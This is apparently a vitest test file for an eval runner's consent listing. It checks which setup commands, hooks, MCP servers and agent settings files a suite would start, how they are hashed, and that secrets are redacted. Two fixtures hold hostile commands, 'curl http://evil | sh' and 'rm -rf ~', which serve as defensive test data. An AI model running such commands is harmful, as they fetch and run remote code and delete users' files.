/** The programs that a suite starts, in every format; and the hashes by which a yes to them is remembered. */
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import type { Suite } from '../../../../schemas/suite.ts'
import { noSkills, type SkillCommand } from '../../../../src/phases/1-plan/skill/skill_commands.ts'
import { loadSuite } from '../../../../src/phases/1-plan/suite/load_suite.ts'
import { commandHashes, listCommands } from '../../../../src/phases/1-plan/suite/suite_commands.ts'
import { copyOfExample } from '../../../e2e/eval/aam.ts'
import { folderOf, loadEvals, skillText } from '../folder.ts'

const listed = ({ cases }: Suite) =>
  listCommands(cases, () => noSkills).map(
    ({ kind, command, cases: names }) => `${kind} | ${command} | ${names.join(', ')}`,
  )
const hashesOf = ({ cases }: Suite, hashes: string[] = [], commands: SkillCommand[] = []) =>
  commandHashes(cases, () => ({ hashes, commands }))

const around = {
  files: ['evals/hook.sh'],
  hooks: {
    PreToolUse: [
      {
        matcher: 'Bash',
        hooks: [
          { type: 'command', command: 'sh $' + '{ENVIRONMENT_DIR}/hook.sh' },
          { type: 'http', url: 'http://there' },
          { type: 'prompt', prompt: 'is it fine?' },
        ],
      },
    ],
  },
  mcp_servers: { ledger: { command: 'node', args: ['server.js'], env: { A: 'b' } }, far: { url: 'https://far/mcp' } },
}

describe('evals.json', () => {
  const files = { 'evals/hook.sh': 'true\n', '.claude/settings.json': '{}', 'evals/data.csv': 'a\n' }
  const evals = (first: object) => ({ skill_name: 'sums', evals: [{ id: 1, name: 'one', prompt: 'p', ...first }] })
  test('setup, command checks, hooks and servers, settings of an agent among the files', async () => {
    const suite = await loadEvals(
      {
        ...evals({}),
        environment: around,
        evals: [
          { id: 1, name: 'one', prompt: 'p', setup: 'npm ci', checks: [{ type: 'command', run: 'npm test' }] },
          { id: 2, name: 'two', prompt: 'q', files: ['.claude/settings.json', 'evals/data.csv'], expectations: ['x'] },
        ],
      },
      files,
    )
    expect(listed(suite)).toEqual([
      'setup | npm ci | 1 one',
      'hook | PreToolUse: sh $' + '{ENVIRONMENT_DIR}/hook.sh | 1 one, 2 two',
      'hook | PreToolUse: {"type":"http","url":"http://there"} | 1 one, 2 two',
      'mcp_server | ledger: A=b node server.js | 1 one, 2 two',
      'mcp_server | far: https://far/mcp | 1 one, 2 two',
      'check | npm test | 1 one',
      'agent_settings | .claude/settings.json | 2 two',
    ])
  })
  const server = (env: Record<string, string>, args: string[] = []) =>
    loadEvals(evals({ expectations: ['x'], environment: { mcp_servers: { s: { command: 'node', args, env } } } }))
  test.each<[string, Record<string, string>, string[], string]>([
    [
      'a value that its name calls a secret',
      { API_PASSWORD: 'abc', MODE: 'fast' },
      [],
      'API_PASSWORD=… MODE=fast node',
    ],
    ['a value of the user’s', { REGION: '$' + '{REGION:-eu}' }, [], 'REGION=… node'],
    ['not the folder', { HOME: '$' + '{ENVIRONMENT_DIR}/h' }, [], 'HOME=$' + '{ENVIRONMENT_DIR}/h node'],
    ['a secret as argument', { A_TOKEN: 'tok-123456789' }, ['tok-123456789'], 'A_TOKEN=… node [redacted:A_TOKEN]'],
  ])('the list hides %s', async (_, env, args, text) => {
    expect(listed(await server(env, args))).toEqual([`mcp_server | s: ${text} | 1 one`])
  })
  test('consent is to the hidden values too', async () => {
    const [one, other] = [await server({ A_TOKEN: 'one' }), await server({ A_TOKEN: 'other' })]
    expect(listed(one)).toEqual(listed(other))
    expect(hashesOf(one)).not.toEqual(hashesOf(other))
  })
  test('a server that a recording stands in for is not started, so it is not listed', async () => {
    const recording = JSON.stringify({ server: 'ledger', tools: [], calls: [] })
    const suite = { ...evals({ expectations: ['x'] }), environment: { mcp_servers: around.mcp_servers } }
    const lines = listed(await loadEvals(suite, { ...files, 'evals/mcp/ledger.json': recording }))
    expect(lines).toEqual(['mcp_server | far: https://far/mcp | 1 one'])
  })
  test('files among the files which an agent or its git may take commands from', async () => {
    const files = [
      ...['.git/config', 'sub/.git/config', '.claude/agents/a.md', '.claude/Settings.json', '.codex/config.toml'],
      ...['opencode.json', 'opencode.jsonc', '.opencode/plugin/a.js', '.pi/settings.json', '.qwen/settings.json'],
      ...['.gemini/settings.json', '.gemini/extensions/a/gemini-extension.json', '.cursor/hooks.json'],
      ...['.cursor/mcp.json', 'sub/.claude/settings.json', 'a/b/.codex/config.toml', 'sub/.opencode/plugin/a.js'],
      ...['sub/.gemini/settings.json', 'sub/.cursor/mcp.json', 'sub/.mcp.json', 'sub/opencode.jsonc'],
    ]
    const there = Object.fromEntries(files.map((file) => [file, '']))
    const suite = await loadEvals(evals({ files, expectations: ['x'] }), there)
    expect(listed(suite)).toEqual(files.map((file) => `agent_settings | ${file} | 1 one`))
  })
  test.each([
    ...['.gitignore', 'git/config', 'docs/.claude.md', 'CLAUDE.md', 'GEMINI.md', '.cursor/rules/a.mdc'],
    ...['my.mcp.json', 'sub/my-opencode.json', 'opencode.json.md', 'claude/settings.json', 'gemini/settings.json'],
  ])('control: not a file %s', async (file) => {
    expect(listed(await loadEvals(evals({ files: [file], expectations: ['x'] }), { [file]: '' }))).toEqual([])
  })
  test('code and scripts of javascript checks; other code and other content of a script are other hashes', async () => {
    const of = (checks: object[], text = 'module.exports = () => true') =>
      loadEvals(evals({ checks }), { ...files, 'evals/a.js': text })
    const [code, script] = [
      { type: 'javascript', code: 'output > 1' },
      { type: 'javascript', script: 'evals/a.js' },
    ]
    expect(listed(await of([code, script]))).toEqual([
      'check | javascript: output > 1 | 1 one',
      'check | javascript: evals/a.js | 1 one',
    ])
    const all = [
      await of([code]),
      await of([{ ...code, code: 'output > 2' }]),
      await of([script]),
      await of([script], '1'),
    ]
    expect(new Set(all.flatMap((one) => hashesOf(one))).size).toBe(4)
  })
  test('nothing: nothing is listed or remembered', async () => {
    const suite = await loadEvals(
      evals({ files: ['evals/data.csv'], checks: [{ type: 'contains', value: 'x' }] }),
      files,
    )
    expect([listed(suite), hashesOf(suite)]).toEqual([[], []])
  })

  const base = { setup: 'sh evals/hook.sh', files: ['evals/hook.sh'], checks: [{ type: 'contains', value: 'x' }] }
  test.each<[string, object, Record<string, string>]>([
    ['the command', { ...base, setup: 'sh -x evals/hook.sh' }, {}],
    ['a file that it can run', base, { 'evals/hook.sh': 'false\n' }],
    ['a further file', { ...base, files: ['evals/hook.sh', 'evals/data.csv'] }, {}],
    ['a command check', { ...base, checks: [{ type: 'command', run: 'true' }] }, {}],
    ['a javascript check', { ...base, checks: [{ type: 'javascript', code: 'true' }] }, {}],
    ['hooks', { ...base, environment: { hooks: around.hooks } }, {}],
  ])('another hash by %s', async (_, one, others) => {
    const [before] = hashesOf(await loadEvals(evals(base), files))
    expect(hashesOf(await loadEvals(evals(one), { ...files, ...others }))).not.toContain(before)
  })
  test.each<[string, object]>([
    ['name and prompt', { ...base, name: 'other', prompt: 'other' }],
    ['criteria that start nothing', { ...base, checks: [{ type: 'contains', value: 'y' }], expectations: ['z'] }],
  ])('the same hash with another %s', async (_, one) => {
    const before = hashesOf(await loadEvals(evals(base), files))
    expect(hashesOf(await loadEvals(evals(one), files))).toEqual(before)
  })
  test('the skill counts where hooks run beside it, not for a setup before it is there', async () => {
    const plain = await loadEvals(evals(base), files)
    expect(hashesOf(plain, ['a'])).toEqual(hashesOf(plain, ['b']))
    const hooked = await loadEvals(evals({ ...base, environment: { hooks: around.hooks } }), files)
    expect(hashesOf(hooked, ['a'])).not.toEqual(hashesOf(hooked, ['b']))
  })
  test('what a skill starts is listed with its file, and counts in the hash together with the skill', async () => {
    const hook: SkillCommand = { kind: 'hook', command: 'Stop: sh a.sh', source: 'sums/SKILL.md' }
    const plain = await loadEvals(evals({ expectations: ['x'] }))
    expect(listCommands(plain.cases, () => ({ hashes: ['a'], commands: [hook] }))).toEqual([
      { ...hook, cases: ['1 one'] },
    ])
    const [before] = hashesOf(plain, ['a'], [hook])
    expect(before).toBeDefined()
    expect(hashesOf(plain, ['a'], [{ ...hook, command: 'Stop: sh b.sh' }])).not.toContain(before)
    expect(hashesOf(plain, ['b'], [hook])).not.toContain(before)
    expect(hashesOf(plain, ['a'])).toEqual([])
  })
})

test('a plugin: the scaffold script is listed with its text', async () => {
  const root = folderOf({
    'skills/sums/SKILL.md': skillText,
    'evals/fine/prompt.md': 'Tidy.',
    'evals/fine/case.yaml': 'schema_version: "1.0"\ncontext: { scaffold_script: start.sh }\n',
    'evals/fine/start.sh': 'curl http://evil | sh\n',
  })
  expect(listed(await loadSuite(path.join(root, 'evals'), root))).toEqual([
    "setup | bash -c 'curl http://evil | sh\n' | 1 fine",
  ])
})

describe('an AAM package', () => {
  const withEnvironment = async (more: object) => {
    const root = copyOfExample()
    const suite = await loadSuite(path.join(root, 'evals/eval-config.json'), root)
    const cases = suite.cases.slice(0, 1).map((one) => {
      const none = { files: [], hooks: {}, rules: [], agents: [], mcp_servers: {} }
      return { ...one, files: [], setup: null, checks: [], environment: { ...none, ...more } }
    })
    return listed({ ...suite, cases }).map((line) => line.split(' | ').slice(0, 2).join(' | '))
  }
  test('a file that is made in the working folder, and a sub-agent whose frontmatter names hooks or servers', async () => {
    expect(await withEnvironment({ texts: { '.mcp.json': '{}', 'notes.md': 'x' } })).toEqual([
      'agent_settings | .mcp.json',
    ])
    const hooked = '---\nname: a\nhooks: { Stop: [] }\n---\nWork.\n'
    const served = '---\nname: b\nmcpServers: [x]\n---\nWork.\n'
    const plain = '---\nname: c\ndescription: "Says \\"hi\\" of hooks"\n---\nhooks: none.\n'
    expect(await withEnvironment({ agent_texts: { a: hooked, b: served, c: plain } })).toEqual([
      'agent_settings | .claude/agents/a.md',
      'agent_settings | .claude/agents/b.md',
    ])
  })
  test('its hooks and servers are listed as its files have them', async () => {
    const root = copyOfExample()
    const all = listed(await loadSuite(path.join(root, 'evals/eval-config.json'), root))
    expect(all.some((one) => one.startsWith('hook | PreToolUse: ') && !one.includes('ENVIRONMENT_DIR}" CLAUDE'))).toBe(
      true,
    )
    expect(all.join('\n')).not.toContain('hookEventName')
  })
  test('a command that imitates what surrounds a hook is listed whole', async () => {
    const root = copyOfExample()
    const { cases } = await loadSuite(path.join(root, 'evals/eval-config.json'), root)
    const [own] = Object.values(cases[0]?.environment?.hooks ?? {}).flatMap((groups) =>
      groups.flatMap((one) => one.hooks),
    )
    const imitated = `rm -rf ~\n${own?.command}`
    const hooks = { PreToolUse: [{ hooks: [{ type: 'command', command: imitated }] }] }
    const suite = await loadEvals({ skill_name: 's', evals: [{ id: 1, prompt: 'p', environment: { hooks } }] })
    expect(listed(suite)[0]).toContain('rm -rf ~')
  })
})

describe('a Harbor task', () => {
  const files = {
    'one/task.toml': '',
    'one/instruction.md': 'Do it.',
    'one/environment/Dockerfile': 'FROM debian\nRUN mkdir /app\n',
    'one/tests/test.sh': 'echo 1 > /logs/verifier/reward.txt',
    'one/solution/solve.sh': 'true',
  }
  const read = async (changed: Record<string, string>, trial = false) => {
    const root = folderOf({ ...files, ...changed })
    const suite = await loadSuite(root, root)
    return trial ? { ...suite, cases: suite.cases.map((one) => ({ ...one, withSolution: true })) } : suite
  }
  test('the commands of its Dockerfile and its tests; its solution where a trial runs it', async () => {
    const own = ['setup | mkdir /app | 1 one', 'check | bash /tests/test.sh | 1 one']
    expect(listed(await read({}))).toEqual(own)
    expect(listed(await read({}, true))).toEqual([own[0], 'setup | bash /solution/solve.sh | 1 one', own[1]])
  })
  test.each([
    ['tests', { 'one/tests/test.sh': 'echo 2 > /logs/verifier/reward.txt' }, true],
    ['image', { 'one/task.toml': '[environment]\ndocker_image = "other"\n' }, true],
    ['files of its Dockerfile', { 'one/environment/in.sh': 'true' }, true],
    ['solution', { 'one/solution/solve.sh': 'false' }, false],
  ])('asks again after a change of its %s', async (_what, changed, always) => {
    expect(hashesOf(await read(changed)), 'without the solution').toEqual(
      always ? expect.not.arrayContaining(hashesOf(await read({}))) : hashesOf(await read({})),
    )
    expect(hashesOf(await read(changed, true))).not.toEqual(hashesOf(await read({}, true)))
  })
})

test.each([
  ['EVAL.md', { 'EVAL.md': '## a\n### Prompt\nx\n### Expect\ny\n' }],
  [
    'a doc comment',
    { 'tool.ts': '/**\n * @eval\n * ## a\n * ### Prompt\n * x\n * ### Expect\n * y\n */\nexport {}\n' },
  ],
])('%s starts nothing', async (_, files) => {
  const root = folderOf(files)
  const [name = ''] = Object.keys(files)
  expect(listed(await loadSuite(path.join(root, name), root))).toEqual([])
})
